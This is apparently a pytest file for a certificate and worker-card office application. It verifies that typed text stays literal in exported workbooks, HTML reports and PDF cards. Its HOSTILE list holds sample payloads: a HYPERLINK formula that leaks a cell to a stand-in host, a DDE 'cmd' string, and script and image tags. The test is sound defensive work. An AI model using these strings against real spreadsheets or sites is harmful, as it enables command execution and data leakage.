"""Words that would be a formula, a link or markup elsewhere: wherever they are free text in a drop or in what a clerk
types, they are that text in every workbook, page and report that comes of it, and nothing else.
"""

import re
from html import escape
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.cli.conftest import Ask
from tests.line.office import Office, open_office
from tests.printing.pages import Pdf
from tests.privacy.readable import readable
from tests.samples.batches import write_drop
from tests.samples.card_batches import write_card_drop

HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"看")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "<script>alert(1)</script>",
    "]]><b>&amp;</b>",
    '"><img src=//x.example>',
    "{{ 7 * 7 }}",
)
# What a workbook has where a cell computes, links or asks another program.
_ACTS = re.compile(rb"<f[ >/]|<hyperlink|<ddeLink|externalLink|oleObject")
_OF_A_CERTIFICATE = 22
CARDS = "2026-11-质量督导员-01"


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Office:
    """A site with a batch for each of the words, one of cards of people who work there, and a voided number each."""
    office = open_office(tmp_path_factory.mktemp("words") / "site")
    for turn, words in enumerate(HOSTILE, start=1):
        write_drop(office.inbox, people=2, seed=turn, name=f"电工-{turn}", particulars={"批准文号": words})
    write_card_drop(office.inbox, "质量督导员", people=len(HOSTILE), seed=50, name=CARDS, change=_employed)
    office.run_printing("supervisor-card")
    with office.workshop() as shop:
        certificates = [number for number in office.numbers() if len(number) == _OF_A_CERTIFICATE]
        for number, words in zip(certificates, HOSTILE, strict=False):
            shop.register.void(number, actor="张管理", second="李审批", reason=words)
    return office


def _employed(rows: list[dict[str, Any]]) -> None:
    for row, words in zip(rows, HOSTILE, strict=True):
        row["工作单位"] = words


def cells(content: bytes) -> set[str]:
    return {str(cell.value) for sheet in load_workbook(BytesIO(content)) for row in sheet.rows for cell in row}


def workbooks(office: Office) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in office.settings.output.rglob("*.xlsx")}


def test_no_workbook_computes_links_or_asks_another_program(ask: Ask, office: Office) -> None:
    assert 0 == ask("books", "export", "--year", "2026", "--by", "赵审计", here=office.settings.site).status
    found = workbooks(office)

    assert {"证书花名册.xlsx", "证卡核发名册.xlsx", "平台上报.xlsx"} < set(found)
    assert [] == [name for name, content in found.items() if any(map(_ACTS.search, readable(content)))]
    told = "\n".join(text for content in found.values() for text in cells(content))
    assert [] == [words for words in HOSTILE if words not in told]


def test_no_report_has_markup_of_theirs(ask: Ask, office: Office, tmp_path: Path) -> None:
    ask("audit", "-o", tmp_path / "audit.html", here=office.settings.site)
    text = (tmp_path / "audit.html").read_text("utf-8")

    assert not re.search(r"<(script|img|b)\b[^>]*>", text)
    assert [] == [words for words in HOSTILE if escape(words) not in text]


def test_on_a_card_stands_what_was_typed(office: Office) -> None:
    (run,) = office.settings.output.rglob(f"{CARDS}/print/cards.pdf")
    pages = Pdf(run)
    printed = ["".join(pages.lines(page)) for page in range(len(pages))]

    assert [] == [words for words in HOSTILE if not any("".join(words.split()) in page for page in printed)]
